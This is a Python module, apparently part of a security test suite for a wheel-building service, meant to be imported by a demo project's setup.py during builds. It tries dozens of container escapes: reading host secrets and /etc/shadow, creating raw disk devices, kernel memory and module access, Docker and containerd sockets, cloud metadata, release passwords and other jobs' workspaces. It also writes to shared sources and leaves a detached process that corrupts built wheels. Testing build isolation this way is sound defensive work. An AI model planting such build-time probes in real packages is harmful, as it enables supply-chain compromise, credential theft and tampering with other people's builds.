"""Attacks whatever builds it: tries each way out of the container; the wheel records which of them worked.

The demo project's own setup.py imports it, as root, in the containers that make the sdist and the wheel. `{secret}` and
`{listener}` stand for a file of the host and a port on which the host listens.
"""

import os
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path

SECRET, LISTENER, MARK = Path("{secret}"), int("{listener}"), "{mark}"
RELEASE = SECRET.parent / "project/build/release"


def reads(path: Path | str) -> bool:
    return MARK in Path(path).read_text(errors="replace")


def writes(path: Path | str) -> bool:
    Path(path).write_text(MARK)
    return True


def opens(path: str) -> bool:
    """Opens a file for writing, and writes nothing, as that would stay."""
    os.close(os.open(path, os.O_WRONLY))
    return True


def connects(family: int, address: object) -> bool:
    with socket.socket(family) as tried:
        tried.settimeout(2)
        tried.connect(address)  # type: ignore[arg-type]
        return True


def runs(*words: str) -> bool:
    done = subprocess.run(words, capture_output=True, text=True, timeout=20)
    return done.returncode == 0 and MARK in done.stdout


def gateway() -> str:
    """Returns the host's address on the engine's bridge, if there is a route."""
    lines = [line.split() for line in Path("/proc/net/route").read_text().splitlines()[1:]]
    (hexadecimal,) = (line[2] for line in lines if line[1] == "00000000")
    return ".".join(str(part) for part in reversed(bytes.fromhex(hexadecimal)))


def reads_a_disk() -> bool:
    """Reads the host's first disk through a device file of its own."""
    major, minor, _, name = Path("/proc/partitions").read_text().splitlines()[2].split()
    node = Path("/tmp") / name
    if not node.exists():
        os.mknod(node, 0o060600, os.makedev(int(major), int(minor)))
    return bool(node.open("rb").read(512))


def mounts() -> bool:
    folder = Path("/tmp/mounted")
    folder.mkdir(exist_ok=True)
    command = ["mount", "-t", "tmpfs", "none", str(folder)]
    return subprocess.run(command, capture_output=True).returncode == 0


def traces_the_host() -> bool:
    """Whether processes outside the container are visible."""
    names = [path.read_text() for path in Path("/proc").glob("[0-9]*/comm")]
    return any(name.strip() in ("dockerd", "systemd", "wheelyard") for name in names)


def sees_variable(name: str) -> bool:
    return name in os.environ


ATTEMPTS: dict[str, Callable[[], bool]] = {
    "the host's disk at /host": lambda: reads(f"/host{SECRET}"),
    "the host's file by its own path": lambda: reads(SECRET),
    "the host's file through process 1": lambda: reads(f"/proc/1/root{SECRET}"),
    "the host's shadow file": lambda: Path("/host/etc/shadow").exists(),
    "writing to the host's disk": lambda: writes(f"/host{SECRET.parent}/written-by-the-build"),
    "writing beside the secret": lambda: writes(f"{SECRET.parent}/written-by-the-build"),
    "a disk's device": reads_a_disk,
    "mounting": mounts,
    "the host's processes": traces_the_host,
    "kernel memory": lambda: opens("/dev/mem"),
    "the kernel's settings": lambda: opens("/proc/sys/kernel/core_pattern"),
    "loading a kernel module": lambda: runs("modprobe", "dummy"),
    "sysrq": lambda: opens("/proc/sysrq-trigger"),
    "control groups": lambda: opens("/sys/fs/cgroup/cgroup.procs"),
    "another namespace": lambda: runs("nsenter", "-t", "1", "-m", "cat", str(SECRET)),
    "the engine's socket": lambda: connects(socket.AF_UNIX, "/var/run/docker.sock"),
    "the engine's socket at /host": lambda: connects(socket.AF_UNIX, "/host/run/docker.sock"),
    "containerd's socket": lambda: connects(socket.AF_UNIX, "/run/containerd/containerd.sock"),
    "an abstract socket": lambda: connects(socket.AF_UNIX, "\0" + MARK),
    "the engine's client": lambda: runs("docker", "ps"),
    "the host's port by loopback": lambda: connects(socket.AF_INET, ("127.0.0.1", LISTENER)),
    "the host's port by the bridge": lambda: connects(socket.AF_INET, ("172.17.0.1", LISTENER)),
    "the host's port by the gateway": lambda: connects(socket.AF_INET, (gateway(), LISTENER)),
    "a name server": lambda: bool(socket.getaddrinfo("pypi.org", 443)),
    "the internet": lambda: connects(socket.AF_INET, ("1.1.1.1", 443)),
    "a package index": lambda: bool(urllib.request.urlopen("https://pypi.org/simple/", timeout=3)),
    "a cloud's metadata": lambda: connects(socket.AF_INET, ("169.254.169.254", 80)),
    "a raw packet": lambda: bool(socket.socket(socket.AF_PACKET, socket.SOCK_RAW).send(b"x" * 60)),
    "the shell's variables": lambda: sees_variable("HOSTILE_SETTING"),
    "the shell's settings for cibuildwheel": lambda: sees_variable("HOSTILE_CIBW"),
    "a password of the shell": lambda: sees_variable("TWINE_PASSWORD"),
    "another job's workspace": lambda: (RELEASE / "work").exists(),
    "another job's workspace at /host": lambda: Path(f"/host{RELEASE}/work").exists(),
    "the record": lambda: writes(RELEASE / "release.json"),
    "the embedded index's password": lambda: Path(f"/host{RELEASE}/index/password").exists(),
    "the sources, for later jobs": lambda: writes("/source/setup.py"),
    "the history, for later jobs": lambda: writes("/source/.git/config"),
}


def tried() -> dict[str, str]:
    """Returns the result of each attempt."""
    found = {}
    for name, attempt in ATTEMPTS.items():
        try:
            found[name] = "through" if attempt() else "refused"
        except BaseException as error:
            found[name] = f"refused ({type(error).__name__})"
    return found


def leave_a_process() -> None:
    """Starts a process that outlives the build and changes the build's results."""
    places = ["/out/*", "/output/*", "/tmp/**/*.whl", f"/host{RELEASE}/**/*.whl"]
    script = f"""
import glob, time
for _ in range(60):
    time.sleep(1)
    for place in {places}:
        for file in glob.glob(place, recursive=True):
            if time.time() - {time.time()} > 15:
                open(file, "ab").write(b"late")
"""
    words = ["setsid", sys.executable, "-c", script]
    subprocess.Popen(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
